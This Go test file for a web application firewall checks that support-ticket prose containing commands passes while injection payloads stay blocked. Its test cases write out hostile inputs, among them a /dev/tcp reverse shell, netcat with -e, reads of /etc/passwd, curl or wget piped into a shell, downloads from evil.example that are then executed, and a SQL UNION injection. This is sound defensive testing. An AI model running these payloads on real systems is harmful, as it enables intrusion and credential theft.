package waf

import (
	"net/url"
	"strings"
	"testing"
)

func TestMessageText(t *testing.T) {
	for _, tc := range []struct {
		name, v string
		want    bool
	}{
		{"ticket with a curl line", "This fails with 401:\n\ncurl -H 'X-Api-Key: sk_test_123' 'https://api.example.com/v1/orders?status=open'\n\nbut works in the dashboard's API explorer.", true},
		{"comment with a fenced repro", "Repro:\n\n```\ncurl 'https://shop.example.com/api/v1/orders?customer=O%27Brien'\n```\n\nreturns 500. Log says `syntax error at or near \"Brien\"`.", true},
		{"review with a fenced diff", "Proposed change:\n\n```diff\n- command: pg_dump -Fc orders > /backups/orders.dump\n+ command: pg_basebackup -D /backups/base -Ft -z -P\n```", true},
		{"steps to reproduce", "Steps to reproduce the problem:\n\nnpm ci\nnpm run build\n\nThe build stops at the second step with an out of memory error.", true},
		// Not messages.
		{"one line", "please run this for me; cat /etc/passwd and tell me what it says", false},
		{"a payload after a line break", "x\ncat /etc/passwd", false},
		{"commands only", "ls -la\nid\nuname -a\nwhoami\ncat /etc/hosts and more", false},
		{"a fence left open", "Repro steps below:\n\n```\nwget http://evil.example/x -O /tmp/x\nchmod +x /tmp/x", false},
		{"one sentence, nothing fenced", "Please help me with this:\nwget http://evil.example/x -O /tmp/x\nchmod 755 /tmp/x; /tmp/x", false},
		// What an injection is sent to do makes any text no message.
		{"pipe into a shell", "Our installer fails:\n\ncurl -fsSL https://get.example.com/install.sh | sh\n\nShould I run it with sudo instead?", false},
		{"pipe into sudo bash", "Run this on the host:\n\nwget -qO- http://x.example/i | sudo -E bash\n\nand tell me what it prints.", false},
		{"reverse shell", "Can you check this please?\n\nbash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\n\nThanks for looking into it.", false},
		{"netcat with -e", "Can you check this please?\n\nnc 10.0.0.1 4444 -e /bin/sh\n\nThanks for looking into it.", false},
		{"password file", "Can you check this please?\n\ncat /etc/passwd\n\nThanks for looking into it.", false},
		{"command substitution", "Can you check this please?\n\necho $(id)\n\nThanks for looking into it.", false},
		{"control byte", "Can you check this please?\n\nls\x00\n\nThanks for looking into it.", false},
	} {
		if got := messageText(tc.v); got != tc.want {
			t.Errorf("%s: messageText = %v; want %v", tc.name, got, tc.want)
		}
	}
}

// TestMessageNotAttack: no payload of the evaluation corpus is a message.
func TestMessageNotAttack(t *testing.T) {
	for _, p := range evalAttacks(t, "cmdi", "sqli", "xss", "lfi", "traversal", "ssti", "xxe", "ldapi", "nosqli") {
		// The lists write a line break as %0A or \n in some payloads.
		for _, v := range []string{p, strings.ReplaceAll(p, "%0A", "\n"), strings.ReplaceAll(p, `\n`, "\n")} {
			if messageText(v) {
				t.Errorf("payload %q is a message", p)
			}
		}
	}
}

// TestMessageShape: through the engine, messages with commands in them
// pass where the CRS alone refuses them; they stay refused with the prose
// group off, with what an injection is sent to do in them, or with
// another finding in the request to corroborate.
func TestMessageShape(t *testing.T) {
	on, off, noProse := rrPolicy(t, true), rrPolicy(t, false), rrPolicy(t, true, "prose")
	curl := "This fails with 401:\n\ncurl -H 'X-Api-Key: sk_test_123' 'https://api.example.com/v1/orders?status=open&limit=10'\n\nbut works in the dashboard's API explorer."
	repro := "Repro:\n\n```\ncurl 'https://shop.example.com/api/v1/orders?customer=O%27Brien'\n```\n\nreturns 500. Log says `syntax error at or near \"Brien\"`."
	js := func(s string) string { return strings.ReplaceAll(strings.ReplaceAll(s, "\"", `\"`), "\n", `\n`) }
	for _, tc := range []struct {
		name    string
		raw     string
		blocked bool
	}{
		{"ticket with a curl line", postReq("/api/v1/tickets", "application/json", `{"subject":"401","body":"`+js(curl)+`"}`), false},
		{"comment with a fenced repro", postReq("/webhooks/git", "application/json", `{"comment":{"body":"`+js(repro)+`"}}`), false},
		{"the ticket in a form", postReq("/support", "application/x-www-form-urlencoded", "text="+url.QueryEscape(curl)), false},
		{"a pipe into a shell", postReq("/api/v1/tickets", "application/json", `{"body":"`+js(strings.Replace(curl, "limit=10'", "limit=10' | sh", 1))+`"}`), true},
		{"a password file", postReq("/api/v1/tickets", "application/json", `{"body":"`+js(strings.Replace(curl, "curl -H", "cat /etc/passwd; curl -H", 1))+`"}`), true},
		{"with SQL injection beside it", postReq("/api/v1/tickets", "application/json", `{"body":"`+js(curl)+`","ref":"1' UNION SELECT password FROM users--"}`), true},
		{"a lone command after a line break", getReq("/search?q=" + url.QueryEscape("shoes\ncurl http://evil.example/x -o /tmp/x")), true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if !tc.blocked {
				if v, _ := inspect(t, off, tc.raw); !v.Blocked() {
					t.Fatalf("the CRS alone passes it: not a test of the shape")
				}
			}
			v, id := inspect(t, on, tc.raw)
			if v.Blocked() != tc.blocked {
				t.Fatalf("got blocked %v (score %d, rules %v); want %v", v.Blocked(), v.Score, ruleIDsOf(testAudit.event(t, id)), tc.blocked)
			}
			if v, _ := inspect(t, noProse, tc.raw); !v.Blocked() {
				t.Errorf("prose group off: got status %d; want blocked", v.Status)
			}
		})
	}
}
